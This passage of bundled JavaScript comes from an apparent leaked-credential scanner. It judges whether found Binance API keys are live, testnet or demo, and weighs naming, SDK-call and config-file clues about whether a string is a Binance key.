// ../engine/dist/clues/environment.js
/**
* What a text says about the environment of the keys in it: live, testnet or demo, by hosts, flags, calls, remarks above
* and the blocks around. A wrong "testnet" makes a live key look harmless, so what says both says nothing.
*/
/** What an entry or an argument tells: `testnet: true`, `mode: "live"`, a base URL. */
function bindingEnvironment({ path, value }) {
	if (value.kind === "ref") return referenceEnvironment(path.at(-1) ?? "", value.path.at(-1) ?? "");
	if (value.kind === "text" && optional.test(path.at(-1) ?? "")) return "unknown";
	const word = value.kind === "scalar" || value.kind === "text" && value.text.length < 60 ? value.text : "";
	if (word === "") return value.kind === "text" && value.text.length < 300 ? hostsEnvironment(value.text) : "unknown";
	const told = flagEnvironment(path.at(-1) ?? "", word);
	if (told !== "unknown") return told;
	if (/\btest-?net\b/i.test(word) || /^sandbox$/i.test(word)) return "testnet";
	if (!labelling.test(path.at(-1) ?? "")) {
		if (/^(?:live|production|prod|mainnet|real)$/i.test(word)) return "live";
		if (/^(?:demo|paper)$/i.test(word)) return "demo";
	}
	return value.kind === "text" ? hostsEnvironment(word) : "unknown";
}
const optional = /(?:test_?net|sandbox|demo|paper).*(?:ur[il]|host|endpoint|base|address|server|domain)/i;
const labelling = /(?:^|_)(?:name|id|label|owner|user|title|bot|status|description|comment|note)$/i;
/** `testnet: True`, `base_path: SPOT_REST_API_TESTNET_URL`; a name alone, `testnet: isTestnet`, leaves it open. */
function referenceEnvironment(name, value) {
	const told = flagEnvironment(name, value);
	if (told !== "unknown" || require_worth_reading.meaningOf(name).environment !== "unknown") return told;
	const { environment } = require_worth_reading.meaningOf(value);
	return /test(?!net)/i.test(value) ? "unknown" : environment;
}
const flagName = /^(?:binance_?|bn_?)?(?:use_?|is_?|enable_?)?(testnet|test|sandbox|sandboxed|sandbox_?mode|demo|demo_?trading|paper)$/i;
/** What a flag of this name and value tells. */
function flagEnvironment(name, value) {
	const flag = flagName.exec(name)?.[1];
	if (!flag || !/^(?:true|false|1|0|yes|no)$/i.test(value)) return "unknown";
	if (!/^(?:true|1|yes)$/i.test(value)) return "live";
	return /demo|paper/i.test(flag) ? "demo" : "testnet";
}
/** The environment that the hosts of a text tell, when they all tell the same. */
function hostsEnvironment(text) {
	const live = liveHosts.test(text);
	if (testnetHosts.test(text)) return live ? "unknown" : "testnet";
	if (demoHosts.test(text)) return live ? "unknown" : "demo";
	return live ? "live" : "unknown";
}
/** The environment that the entries of a container tell of all values in it. */
function containerEnvironments(bindings) {
	const told = /* @__PURE__ */ new Map();
	for (const binding of bindings) {
		const environment = binding.container === 0 ? "unknown" : bindingEnvironment(binding);
		if (environment === "unknown") continue;
		const known = told.get(binding.container);
		if (known) known.add(environment);
		else told.set(binding.container, /* @__PURE__ */ new Set([environment]));
	}
	return new Map([...told].map(([container, environments]) => [container, agreed(environments)]));
}
/** What several remarks together tell: nothing where one says live and another does not. Testnet is the better word for demo. */
function agreed(environments) {
	const told = new Set(environments);
	told.delete("unknown");
	if (told.has("live")) return told.size === 1 ? "live" : "unknown";
	return told.has("testnet") ? "testnet" : told.has("demo") ? "demo" : "unknown";
}
/** What every remark, flag, host and call that tells an environment has in it. */
const environmentWord = /test[ _]?net|sandbox|demo|live|mainnet|production|real|prod|binance(?:future|api|ops)?\.|实盘|實盤|실거래|测试网|測試網|테스트넷|тестнет|テストネット|模拟盘|模擬盘|本番|боевой/giu;
/** A dozen lines above a value are looked at, and some below. */
const reach$9 = 5e3;
/**
* What the lines around the value say: flags, hosts and calls near it, the remark above, the head of its block.
* @param mayTellEnvironment says where no `environmentWord` is near, and so nothing need be looked at
*/
function environmentNear(text, span, prose, { mayTellEnvironment, acting }, names = []) {
	if (!mayTellEnvironment(span.start - reach$9, span.end + reach$9)) return "unknown";
	const lines = require_worth_reading.linesAround(text, span, 5);
	const nearIn = (part) => `${own(part.slice(0, span.start - lines.start), "above")}\0${own(part.slice(span.end - lines.start), "below")}`;
	const said = nearIn(text.slice(lines.start, lines.end));
	const line = {
		start: require_worth_reading.lineStart(text, span.start),
		end: require_worth_reading.lineEnd(text, span.end)
	};
	const done = () => isSaid(acting(), text, span) ? `${text.slice(line.start, span.start)}\0${text.slice(span.end, line.end)}` : nearIn(actingNear(acting(), lines, span, names));
	let known;
	const told = (tell) => alsoDone(toldApart(said, tell), () => tell(known ??= done()));
	for (const environment of [
		blockEnvironment(text, span.start),
		told(flagsEnvironment),
		remarkEnvironment(text, span.start, prose)
	]) if (environment !== "unknown") return environment;
	return prose ? toldApart(paragraph(text, span), hostsEnvironment) : told(hostsEnvironment);
}
/** The line of a value in prose, and the short ones above it up to a blank one: a sentence speaks of many things. */
function paragraph(text, span) {
	const lines = [text.slice(require_worth_reading.lineStart(text, span.start), span.start), text.slice(span.end, require_worth_reading.lineEnd(text, span.end))];
	for (const above of require_worth_reading.linesAbove(text, span.start, 5)) {
		if (above.trim() === "" || above.length > longest$6 || boundary.test(above)) break;
		lines.push(above);
	}
	return lines.join("\n");
}
/** Whether a place is in a comment or in another text that does nothing. */
const isSaid = (acting, text, { start, end }) => acting.slice(start, end) !== text.slice(start, end);
/** What is said makes a key harmless only where it is done as well. */
function alsoDone(said, done) {
	return said === "unknown" || said === "live" || done() === said ? said : "unknown";
}
/** A function begins, or a part of a page that is code. */
const boundary = /^\s*(?:(?:async\s+)?(?:def|func|function|fn|class)\b|```|~~~)/;
/** The lines that may speak of the value: of its own function, and without those that hold other values. */
function own(text, side) {
	const lines = text.split("\n");
	const [nearest] = side === "above" ? lines.splice(-1) : lines.splice(0, 1);
	const others = side === "above" ? lines.toReversed() : lines;
	const stop = others.findIndex((line) => boundary.test(line));
	const kept = others.slice(0, stop < 0 ? others.length : stop).filter((line) => !/[A-Za-z0-9]{60}/.test(line));
	return side === "above" ? [...kept.toReversed(), nearest].join("\n") : [nearest, ...kept].join("\n");
}
/** Path of a file or folder that is for the testnet or the live system alone. A folder named `demo` holds examples, not demo keys. */
function pathEnvironment(path) {
	if (/(?:^|[/._-])(?:testnet|sandbox)(?=[/._-]|$)/i.test(path)) return "testnet";
	return /(?:^|[/._-])(?:production|mainnet|live)(?=[/._-]|$)/i.test(path) ? "live" : "unknown";
}
const flags = /["']?\b((?:[A-Z]+_)*(?:use_?|is_?|enable_?)?(?:testnet|sandbox|demo_?trading|demo))["']?\s*(?:[:=]>?|,)\s*["']?(true|false|1|0|yes|no)\b/gi;
/** Calls and members that choose the testnet: `set_sandbox_mode(True)`, `BinanceEnvironment.Testnet`. */
const choices = /\bset_?sandbox_?mode\(\s*true|Environment(?:\.|::)testnet\b|\bconfig(?:\.|::)testnet\(|::testnet\(|(?:\bTestnet_?(?:Rest_?)?(?:Api_?)?(?:Url|Host|Endpoint)|_TESTNET_(?:\w+_)?(?:URL|HOST|ENDPOINT))\b(?!\s*(?::\s*\w+\s*)?=(?!=))/i;
const choicesCamel = /[a-z]Testnet(?:Rest)?(?:Api)?(?:Url|Host|Endpoint)\b(?!\s*(?::\s*\w+\s*)?=(?!=))/;
function flagsEnvironment(near) {
	const told = /* @__PURE__ */ new Set();
	for (const [, name = "", value = ""] of near.matchAll(flags)) told.add(flagEnvironment(name.replace(/^.*?(?=(?:use_?|is_?|enable_?)?(?:testnet|sandbox|demo))/i, ""), value));
	const choice = choices.exec(near) ?? choicesCamel.exec(near);
	if (choice && !/\bif\b|\belse\b|\?|\bdef\b/.test(near.slice(require_worth_reading.lineStart(near, choice.index), choice.index))) told.add("testnet");
	return agreed(told);
}
/** Lines of a remark, a heading or a section that stand between values. */
const remark = /^\s*(?:#+|\/\/+|--+|;+|\/?\*+|<!--|\[|=+|%+|rem\b)/i;
const longest$6 = 70;
/** Whether an excuse stands above in a comment that goes on over several lines: it has said all that is in them. */
function isBelowExcuse(text, at) {
	for (const line of require_worth_reading.linesAbove(text, at, 8)) {
		if (!/bnguard-ignore/i.test(line)) continue;
		const opener = Math.max(line.lastIndexOf("/*"), line.lastIndexOf("<!--"));
		return opener >= 0 && !line.includes("*/", opener + 2) && !line.includes("-->", opener + 2);
	}
	return false;
}
/** What the nearest remark above says, with nothing but values and blank lines between. In prose any short line is one. */
function remarkEnvironment(text, at, prose) {
	for (const line of require_worth_reading.linesAbove(text, at, 8)) {
		const above = require_worth_reading.withoutExcuses(line).trim();
		const isExcuse = above.length < line.trim().length;
		if (above === "" || isExcuse && /^[#/*;%!<>-]*$/.test(above) || /[A-Za-z0-9]{60}/.test(above)) continue;
		if (above.length > longest$6 || !(prose || remark.test(above))) return "unknown";
		return isBelowExcuse(text, at) ? "unknown" : toldApart(line.trim(), remarkedEnvironment);
	}
	return "unknown";
}
/**
* What a remark tells. That a key is for the testnet only where the remark is a label, a few words about keys: `tested on
* testnet first` is none. What makes a key live needs no proof.
*/
function remarkedEnvironment(line) {
	const remark = line.replace(/^[\s/*#-]+/, "").replace(/_/g, " ").replace(/([a-z])([A-Z])/g, "$1 $2");
	const told = agreed(spoken$2.flatMap(([environment, word]) => word.test(remark) ? [environment] : []));
	if (denied$1.test(remark)) return "unknown";
	return told === "unknown" || told === "live" || isLabel(remark) ? told : "unknown";
}
/** Says the opposite, that something was or will be, or that somebody does something. */
const denied$1 = /[:=]\s*(?:true|false|yes|no|on|off|[01])\b|n['’]t\b|!\s*\w|\b(?:not|no|non|none|never|without|before|from|instead|rather|than|skip|switch|change[sd]?|or|vs|both|was|were|except|excluding|unlike|off|ex|former|previous(?:ly)?|after|once|todo|fixme|add|use[sd]?|works?|tested|disabled?|turn|replaced?|moved|ran|runs?|expired?|another|different|false|https?|kein|keine|ohne|niet|nicht|pas|sans|senza|sem|sin)\b|non-?testnet|[?/]\s*\w|[=:(]\W{0,2}0\b|->|=>|不|非|(?<!\p{L})(?:не|без|вместо|кроме)(?!\p{L})|ない/iu;
const labelWord = /^(?:test|net|testnet|sandbox|demo|mode|account|trading|binance|bn|spot|futures?|usd|usdm|usdt|coin|coinm|margin|options?|smart|chain|api|apikey|key|keys|llaves|claves|clés|secret|secrets|secretkey|private|public|hmac|rsa|ed|credentials?|creds|pair|tokens?|values?|config(?:uration)?|settings?|section|block|env|environment|network|host|server|dev|exchange|connector|bot|user|only|true|yes|created|for|the|a|an|my|our|your|this|these|is|are|of|on|in|and|with|de|la|binancefuture|vision|com|[a-z]|тестнет\p{L}{0,3}|ключ\p{L}{0,2}|для|от|\d+)$/iu;
/** The same of scripts that put no blanks between words. */
const labelSigns = /测试网|測試網|模拟盘|模擬盘|币安|幣安|密钥|密鑰|秘钥|访问|安全|账户|帳戶|现货|合约|这是|的|테스트넷|바이낸스|키|용|의|テストネット|バイナンス|キー|用|の/gu;
/** `testnet keys of the grid bot`: the name of something. */
const whose$1 = /\b(?:of|for)\s+(?:(?:the|my|our|a)\s+)?[\w-]+(?:\s+[\w-]+)?\s*$/i;
/** Whether a remark has nothing but what labels of keys have. */
function isLabel(remark) {
	const words = remark.replace(whose$1, "").replace(labelSigns, "").match(/\p{L}+|\d+/gu) ?? [];
	return words.length <= 10 && words.every((word) => labelWord.test(word));
}
/**
* What a text tells with the excuses of findings in it. Whoever excuses a finding would else decide how bad it is, or another:
* a key is harmless only where the text says so without them, and live with them, too.
*/
function toldApart(text, tell) {
	const whole = tell(text);
	if (whole === "unknown" || whole === "live") return whole;
	return tell(require_worth_reading.withoutExcuses(text)) === whole ? whole : "unknown";
}
const spoken$2 = [
	["live", /\b(?:live|main ?net|prd|prod|production|real)\b|实盘|實盤|실거래|本番|боевой|主网|主網|мейннет|메인넷|メインネット/i],
	["testnet", /testnet|test net|\bsandbox\b|测试网|測試網|테스트넷|тестнет|テストネット/i],
	["demo", /\bdemo (?:account|trading|keys?|api|mode)\b|模拟盘|模擬盤/i]
];
const condition$1 = /\b(?:if|elif|elsif|case|when)\b(?!.*(?:!|\bnot\b|\bfalse\b|\bunless\b|\bor\b|\|\|)).*test_?net/i;
const maker$1 = /\b(?:def|func|function|fn|fun)\s+(?:\([^)]*\)\s*)?\w*test_?net\w*\s*[(<]/i;
/** `if testnet:` above the value's block, or a function `testnet_client()`: the head of the lines that are indented with it. */
function blockEnvironment(text, at) {
	const head = require_worth_reading.headAbove(text, at, 12);
	return head === void 0 ? "unknown" : toldApart(head, headEnvironment);
}
const headEnvironment = (head) => condition$1.test(head) || maker$1.test(head) ? "testnet" : "unknown";
// ../engine/dist/clues/beside.js
const callEnvironments = /* @__PURE__ */ new WeakMap();
/** `testnet: true` beside it in the call or the mapping, a base URL, a row's other cells. */
function besideEnvironment({ call, container, path }, { containers }) {
	if (!call) return containers.get(container) ?? "unknown";
	let known = callEnvironments.get(call);
	if (!known) callEnvironments.set(call, known = environmentsIn(call));
	return agreed(known.filter(({ parent }) => parent.every((step, i) => step === path[i])).map(({ environment }) => environment));
}
const maxTelling = 50;
/** The arguments and options of a call that tell an environment, with the path of the mapping that they stand in. */
function environmentsIn(call) {
	return call.args.map((arg) => ({
		parent: arg.path.slice(0, -1),
		environment: bindingEnvironment(arg)
	})).filter(({ environment }) => environment !== "unknown").slice(0, maxTelling);
}
function exchangeClues(use, { exchangesBeside }) {
	const [only, another] = exchangesBeside(use.container, use.path.slice(0, -1).join("\0"));
	if (only === void 0 || another !== void 0) return [];
	return only === "binance" ? [clue("exchange-entry", "the entry beside it says Binance")] : [clue("other-service", `the entry beside it says ${only}`)];
}
/** Trading bots that read Binance keys from a file of a known name, at a path that does not say Binance. */
const frameworks = [
	[
		/(?:^|\/)user\.cfg(?:\.\w+)?$/,
		/^binance_user_config\./,
		"binance-trade-bot"
	],
	[
		/(?:^|\/)creds[\w.-]*\.ya?ml$/,
		/^(?:prod|test)\.(?:access|secret)_key$/,
		"the volatility trading bot"
	],
	[
		/(?:^|\/)api-keys(?:[\w.-]*)\.json$/,
		/\.(?:key|secret)$/,
		"passivbot"
	],
	[
		/(?:^|\/)connect_binance\w*\.json$/,
		/^(?:key|secret)$/,
		"vn.py"
	]
];
/** The bots that read their keys from a file of this name. */
function botsReading(path) {
	return frameworks.filter(([file]) => file.test(path)).map(([, , bot]) => bot);
}
function frameworkClues(use, path) {
	const bots = botsReading(path);
	if (bots.length === 0) return [];
	const steps = use.path.join(".");
	const found = frameworks.find(([, entry, bot]) => bots.includes(bot) && entry.test(steps));
	return found ? [clue("framework-entry", `it stands where ${found[2]} reads its key`)] : [];
}
const credentialWords = /api|secret|key|token|credential|passphrase|密钥|秘钥|私钥/i;
function nearClues({ span }, neighbours, { text }, around) {
	const clues = [];
	const close = require_worth_reading.linesAround(text, span, 3);
	if (neighbours.some((other) => other.span.start !== span.start && other.span.start >= close.start && other.span.end <= close.end)) clues.push(clue("other-half", "another value of its shape stands within three lines"));
	if (credentialWords.test(text.slice(close.start, span.start)) || credentialWords.test(text.slice(span.end, close.end))) clues.push(clue("words-near", "a credential word stands within three lines"));
	if (isNear(text, span, around)) clues.push(clue("binance-near", "Binance is named within ten lines"));
	return clues;
}
/** Whether Binance is named within ten lines. */
function isNear(text, span, { mentions }) {
	const { start, end } = require_worth_reading.linesAround(text, span, 10);
	return hasBetween(mentions, start, end);
}
// ../engine/dist/clues/otherwise.js
/** Secrets of web frameworks that are called as Binance's are, and what shows that the file is the framework's. */
const frameworkSecrets = [
	[
		/^secret_key$/i,
		/\bINSTALLED_APPS\b|\bALLOWED_HOSTS\b|\bdjango\b|\bflask\b/i,
		"Django’s or Flask’s secret"
	],
	[
		/^secret_key_base$/i,
		/(?:)/,
		"Rails’ secret"
	],
	[
		/^credentialSecret$/,
		/(?:)/,
		"Node-RED’s secret"
	],
	[
		/^application_secret$/i,
		/(?:)/,
		"Play’s secret"
	],
	[
		/^(?:secure_)?(?:auth|logged_in|nonce)_(?:key|salt)$/i,
		/(?:)/,
		"WordPress"
	],
	[
		/^secret_key$/i,
		/^[ \t]{0,40}\[security\]/m,
		"Grafana’s secret"
	]
];
function frameworkOf(name, { has }) {
	return frameworkSecrets.find(([called, shows]) => called.test(name) && has(shows))?.[2];
}
/** The exchange that a class of ccxt is for, which is not Binance: `ccxt.coinbaseexchange(…)`. */
function ccxtExchange({ call }) {
	const name = /(?:^|\.)ccxt(?:pro)?(?:\.(?:pro|async_support|async|rest))*\.(\w+)$/i.exec(call?.callee.join(".") ?? "")?.[1];
	return name === void 0 || /^(?:new)?binance|^exchange$/i.test(name) ? void 0 : require_worth_reading.shown(name);
}
/** Plain names of sections that may be Binance's as well as any. */
const plainSection = /^(?:exchanges?|accounts?|api|apis|keys?|credentials?|creds|secrets?|config|settings|default|live|test|testnet|prod|production|main|old|new|backup|spare|second|other|alt|unused|user|auth|env|environment|data|\d+)$/i;
/** Whether the value stands in one section of the file, and Binance's settings in another of the same level. */
function isOtherSection(path, sections) {
	return sections.some((own) => {
		const level = own.length - 1;
		const step = path[level];
		return path.length > level + 1 && step !== void 0 && !plainSection.test(step) && own.slice(0, level).every((above, i) => above === path[i]);
	});
}
/** Whether the file has names such as `BINANCE_API_KEY`, and none of them on the candidate's line. */
function isNamedOtherwise({ span }, { text }, { namesOwn }) {
	if (!namesOwn) return false;
	const { start, end } = require_worth_reading.linesAround(text, span, 0);
	return !require_worth_reading.binanceWord.test(text.slice(start, span.start)) && !require_worth_reading.binanceWord.test(text.slice(span.end, end));
}
/** Whether a name that tells another use may still be a key's: `BINANCE_SIGNING_SECRET`, and not `BINANCE_JWT_SECRET`. */
function isPardoned({ use, role, binance }, shape) {
	if (role === "private-key") return shape !== "hex64" || use !== "wallet";
	if (shape === "hex64" && use === "hash") return false;
	return binance === "name" && role !== void 0 && !/^(?:session|encryption|webhook|TLS or login|listen key)$/.test(use ?? "");
}
// ../engine/dist/clues/slots.js
const fixMessage = /8=FIX\.4/;
const fixSession = /BeginString\s*=\s*FIX/i;
/** FIX logons, as messages and as the settings of a session, carry the API key as user name, the field 553. */
function fixClues(names, { span }, text, { has }) {
	const before = text.slice(Math.max(0, span.start - 8), span.start);
	const message = (/(?:^|\D)553=$/.test(before) || /(?:^|\D)553$/.test(names.at(-1) ?? "")) && has(fixMessage);
	const session = /^user_?name$/i.test(names.at(-1) ?? "") && has(fixSession);
	if (!message && !session) return [];
	return [
		clue("mbx-header", "it is the user name (553) of a FIX logon"),
		clue("header-role", "FIX carries the API key in 553", "api-key"),
		clue("credential-name", "it is the user name of a FIX session")
	];
}
function slotOf(use, imports) {
	const callee = (use.call?.callee ?? []).flatMap((step) => step.split("\\")).filter((step) => step !== "").join(".");
	const position = use.path.length === 1 && /^\d+$/.test(use.path[0] ?? "") ? Number(use.path[0]) : -1;
	let unsure;
	for (const row of sdkCalls) {
		if (!row.callee.test(callee)) continue;
		const role = row.args[position];
		if (position >= 0 && role === void 0) continue;
		const slot = {
			call: row,
			role,
			sure: row.imports !== void 0 && imports.some((name) => row.imports?.test(name)) || row.distinctive === true || require_worth_reading.binanceWord.test(callee),
			name: calleeName(use),
			position,
			signing: false
		};
		if (slot.sure) return slot;
		unsure ??= slot;
	}
	if (unsure) return unsure;
	const signing = signingCalls.find((row) => row.callee.test(callee) && row.args[position] !== void 0);
	return signing ? {
		call: signing,
		role: signing.args[position],
		sure: false,
		name: calleeName(use),
		position,
		signing: true
	} : void 0;
}
function slotClues(slot, isPrivateKey) {
	const what = slot.position >= 0 ? `argument ${String(slot.position + 1)} of ${slot.name}` : `an option of ${slot.name}`;
	const clues = [];
	if (slot.signing) {
		clues.push(clue("credential-name", `it is ${what}, which signs`));
		if (!isPrivateKey) clues.push(clue("signing-slot", `it is ${what}, which signs`, "secret"));
		return clues;
	}
	const from = slot.sure ? ` from ${slot.call.sdk}` : "";
	if (slot.sure) clues.push(clue("sdk-argument", `it is ${what}${from}`), clue("sdk-call", `it is ${what}${from}`));
	if (slot.role && !isPrivateKey) {
		const role = slot.role === "private-key" ? "secret" : slot.role;
		clues.push(slot.sure ? clue("sdk-slot", `it is ${what}`, role) : clue("role-order", `it is ${what}`, role));
		if (!slot.sure) clues.push(clue("credential-name", `it is ${what}, as SDKs have it`));
	}
	return clues;
}
function calleeName({ call }) {
	return `${require_worth_reading.shownPath(call?.callee ?? [])}(…)`;
}
// ../engine/dist/clues/use-names.js
/** The header that the argument before the value names, or a named one: `addValue(key, forHTTPHeaderField: "X-MBX-APIKEY")`. */
function headerBeside({ call, path }) {
	if (!call || call.args.length > 6) return [];
	const position = path.length === 1 && /^\d+$/.test(path[0]) ? Number(path[0]) : -1;
	return call.args.flatMap(({ path: other, value }) => {
		const isHeader = value.kind === "text" && /^x-mbx-apikey:?$/i.test(value.text.trim());
		const [at = ""] = other;
		const names = /^\d+$/.test(at) ? Number(at) === position - 1 : position === 0;
		return isHeader && names ? [value.text] : [];
	});
}
/** Languages whose blocks have no braces, so that what a block belongs to is only seen by the indent. */
const indented = /* @__PURE__ */ new Set([
	"python",
	"ruby",
	"lua",
	"elixir",
	"julia"
]);
const head$2 = /^\s*(?:class|module|defmodule|object)\s+([A-Za-z_]\w*)/;
const maxHeadLines = 60;
/** The class that a member belongs to: `class BinanceTestnet:` above an indented `api_key = …`. */
function headsAbove(use, { span }, { text }, { language }) {
	if (use.via !== "assign" || use.path.length !== 1 || use.call || !indented.has(language)) return [];
	const above = require_worth_reading.headAbove(text, span.start, maxHeadLines);
	const name = above === void 0 ? void 0 : head$2.exec(above)?.[1];
	return name === void 0 ? [] : [name];
}
/** An option's names come first. */
const maxNames = 8;
/** `add_argument("--api-secret", default="…")`: the option's first name is the name of its default. */
function optionName({ call }, steps) {
	if (!call || !/^(?:default|default_?value|fallback|value|initial)$/i.test(steps.at(-1) ?? "")) return void 0;
	const longest = call.args.slice(0, maxNames).map(({ path, value }) => /^\d+$/.test(path.at(-1) ?? "") && value.kind === "text" ? value.text : "").filter((text) => /^-{0,2}[A-Za-z][\w-]{1,40}$/.test(text)).reduce((best, text) => text.length > best.length ? text : best, "");
	return longest === "" ? void 0 : [longest.replace(/^-+/, "")];
}
// ../engine/dist/clues/use.js
function weighUse(use, candidate, document, reading, around) {
	const isPrivateKey = candidate.shape === "private-key" || candidate.shape === "encrypted-private-key";
	const outer = use.outer === true;
	const called = use.call ? slotOf(use, reading.imports) : void 0;
	const slot = called && outer ? {
		...called,
		role: void 0
	} : called;
	const label = use.via === "bare" && use.embedded;
	const steps = use.path.filter((step) => !/^\d*$/.test(step)).map((step) => label ? identifierIn(step) : step);
	const loose = label && !/^\w+$/.test(steps.at(-1) ?? "");
	const names = [...headsAbove(use, candidate, document, reading), ...optionName(use, steps) ?? steps];
	const setter = use.call && names.length === 0 && use.call.args.length === 1 ? [setterName(use.call.callee)] : [];
	const set = require_worth_reading.meaningOfPath(setter);
	const meaning = names.length > 0 ? require_worth_reading.meaningOfPath(names) : set.role && !set.use ? set : require_worth_reading.meaningOfPath([]);
	const calleeMeaning = use.call ? require_worth_reading.meaningOfPath(use.call.callee) : void 0;
	const clues = [];
	if (!isPrivateKey && !outer) clues.push(...roleClues(meaning, label, names.at(-1) ?? setter[0] ?? ""));
	if (meaning.binance === "name") clues.push(clue("binance-name", `its ${label ? "label" : "name"} says Binance`));
	else if (meaning.binance === "short") clues.push(clue("binance-short-name", "its name has a common short form of Binance"));
	const says = label ? "a remark beside it" : "its name";
	if (meaning.use && !outer && !(loose && meaning.role) && !isPardoned(meaning, candidate.shape)) {
		const random = candidate.shape === "alnum64" && (meaning.role === "secret" ? /sign(?:er|ing)?$/i : /^_*(?:hash|sign|sig|signed|signature)_*$/i).test(names.at(-1) ?? "");
		clues.push(clue(random ? "unlikely-use" : "other-use", `${says} says ${meaning.use}`));
	}
	if (meaning.vague && !outer && !loose && meaning.binance !== "name") clues.push(clue("vague-name", "its name may be of anything: a token, a password"));
	if (use.via !== "bare" && !slot && meaning.binance === void 0 && isOtherSection(use.path, around.sections)) clues.push(clue("other-section", "the section beside its own is Binance’s"));
	const framework = frameworkOf(names.at(-1) ?? "", around);
	if (framework && meaning.binance !== "name" && !slot) clues.push(clue("other-use", `its name is that of ${framework}`));
	const otherCall = use.call && otherCalls$1.find(([callee]) => callee.test(use.call?.callee.join(".") ?? ""));
	if (otherCall) clues.push(clue("other-use", `${calleeName(use)} takes a secret for its ${otherCall[1]}`));
	const service = meaning.binance === "name" ? void 0 : meaning.service ?? (calleeMeaning?.binance === "name" ? void 0 : calleeMeaning?.exchange ?? ccxtExchange(use) ?? require_worth_reading.serviceOfCallee(use.call?.callee.at(-1) ?? ""));
	if (service && !slot?.sure && !(label && meaning.role)) clues.push(clue("other-service", `its name says ${service}`));
	const isItem = /^\d+$/.test(use.path.at(-1) ?? "");
	if (!label && !outer && !isItem && meaning.foreign.length > 0 && names.length > 0) clues.push(clue("foreign-words", "its name has words of its own"));
	else if (!label && !slot && meaning.binance === void 0 && calleeMeaning?.binance === void 0 && use.call && !around.clues.some(({ signal }) => signal === "binance-api-word" || signal === "binance-symbol") && hasOwner(use.call)) clues.push(clue("foreign-words", "what it stands in has a name of its own"));
	if (!label && !outer && meaning.binance === void 0 && names.length > 0 && isNamedOtherwise(candidate, document, around)) clues.push(clue(meaning.foreign.length > 0 && !isItem ? "named-for-other" : "named-otherwise", "the file calls its Binance credentials by names that say so"));
	if (/^x[-_](?!mbx)[\w-]*(?:key|token|secret)$/i.test(names.at(-1) ?? "") && !isForBinance(use.call, document.text)) clues.push(clue("other-service", "it stands in a header of another service"));
	const header = /mbx-?_?apikey|binancepay-?_?certificate-?_?sn/i.exec([...names, ...headerBeside(use)].join("-").replace(/\s/g, ""));
	if (header) {
		const name = /mbx/i.test(header[0]) ? "X-MBX-APIKEY" : "BinancePay-Certificate-SN";
		clues.push(clue("mbx-header", `it stands in the header ${name}`), clue("header-role", `the header ${name} carries API keys`, "api-key"), clue("credential-name", `its name is ${name}`));
	}
	if (slot) clues.push(...slotClues(slot, isPrivateKey));
	else if (calleeMeaning?.binance === "name") clues.push(clue("sdk-like-call", `it is an argument of ${calleeName(use)}`));
	clues.push(...fixClues(use.path, candidate, document.text, around));
	clues.push(...exchangeClues(use, around), ...frameworkClues(use, document.path));
	const spoken = spokenEnvironment(use, label, names.at(-1) ?? "", meaning);
	const beside = besideEnvironment(use, around);
	const environment = spoken === "unknown" || spoken === "demo" && beside === "testnet" ? beside : spoken;
	const role = isPrivateKey || outer ? void 0 : require_worth_reading.credentialRole(meaning.role);
	const telling = slot ? 9 : names.length > 0 ? (label ? 2 : 5) + (role ? 2 : 0) : use.call ? 1 : 0;
	return {
		clues,
		environment,
		sentence: sentenceOf(use, names, document.text),
		stem: meaning.stem,
		telling
	};
}
function spokenEnvironment({ isRemark }, label, name, { environment }) {
	if (isRemark) return environment === "live" ? environment : remarkedEnvironment(name);
	return label && /[=(]/.test(name) ? "unknown" : environment;
}
/** The beginning of a request, where its address is. */
const addressReach = 300;
const isForBinance = (call, text) => call !== void 0 && require_worth_reading.binanceWord.test(text.slice(call.span.start, Math.min(call.span.end, call.span.start + addressReach)));
const settingUp = /^(?:config|configure|init|initialize|setup|set_?up)$/i;
/** `new AcmeClient({ … })`, `acme.config({ … })`: a client or a module that is called by a word of its own. */
function hasOwner({ callee }) {
	const last = callee.at(-1) ?? "";
	const named = /^[A-Z]\w*(?:Client|A[Pp][Ii]|S[Dd][Kk])$/.test(last) ? last : settingUp.test(last) ? callee.at(-2) : void 0;
	return named !== void 0 && !/^bina/i.test(named) && require_worth_reading.meaningOf(named).foreign.some((word) => !/^(?:sdk|api|client)$/.test(word));
}
function roleClues(meaning, label, name) {
	const role = require_worth_reading.credentialRole(meaning.role);
	if (!role || meaning.vague && meaning.role === "key") return [];
	const called = `it is ${label ? "labelled" : "named"} ${label ? shownLabel(name) : require_worth_reading.shown(name)}`;
	if (meaning.role === "key") return [clue("key-name", called), clue("role-key", called, "api-key")];
	return [clue("credential-name", called), clue(label ? "role-label" : "role-name", called, role)];
}
/** Labels are prose: shown only when they are short and plain. */
function shownLabel(label) {
	return /^[^\d]{1,40}$/.test(label) ? `“${label}”` : "by a label";
}
/** `gh secret set BINANCE_API_KEY --body`: an identifier that tells a role names more exactly than the words around it. */
function identifierIn(label) {
	const last = /(?:^|[^\w.])([A-Za-z][A-Za-z0-9]*(?:_+[A-Za-z0-9]+)+)$/.exec(label)?.[1];
	if (last !== void 0) return last;
	return label.match(/\b[A-Za-z]+(?:_[A-Za-z0-9]+)+\b/g)?.findLast((name) => require_worth_reading.meaningOf(name).role !== void 0) ?? label;
}
/** `setApiKey` and `withApiKey` name their argument. */
function setterName(callee) {
	const last = callee.at(-1) ?? "";
	const named = last.replace(/^(?:set|with|add|put|use)_?(?=[A-Z_a-z])/i, "");
	return named !== last || callee.length > 1 ? named : "";
}
/** How the message names the use: `passed as argument 2 of new Spot(…)`. */
function sentenceOf(use, names, text) {
	const name = require_worth_reading.shownPath(names);
	if (use.call) {
		const callee = `${/\bnew\s+\\?$/.test(text.slice(Math.max(0, use.call.span.start - 6), use.call.span.start)) ? "new " : ""}${require_worth_reading.shownPath(use.call.callee)}(…)`;
		if (names.length > 0) return `passed as ${name} to ${callee}`;
		return `passed as argument ${String(Number(use.path[0] ?? 0) + 1)} of ${callee}`;
	}
	if (names.length === 0) return "standing alone";
	if (use.via === "bare") return use.embedded ? `after ${shownLabel(names.at(-1) ?? "").replace(/^by /, "")}` : `after ${name}`;
	if (use.via === "column") return `in column ${name}`;
	if (use.via === "header" || /^x-/i.test(names.at(-1) ?? "")) return `in header ${name}`;
	return use.via === "entry" ? `in entry ${name}` : `assigned to ${name}`;
}
// ../engine/dist/clues/weigh.js
/** Candidate + its document → clues. Every sentence names what was seen, never a value. */
/** Everything that speaks for or against the candidate in its document. */
function weigh(candidate, neighbours, document, reading, around) {
	const clues = [shapeClue(candidate), ...around.clues.filter(({ group }) => candidate.algorithm === void 0 || group !== "api-word")];
	if (candidate.shape === "passphrase") clues.push(clue("any-passphrase", "a passphrase may be for any private key"));
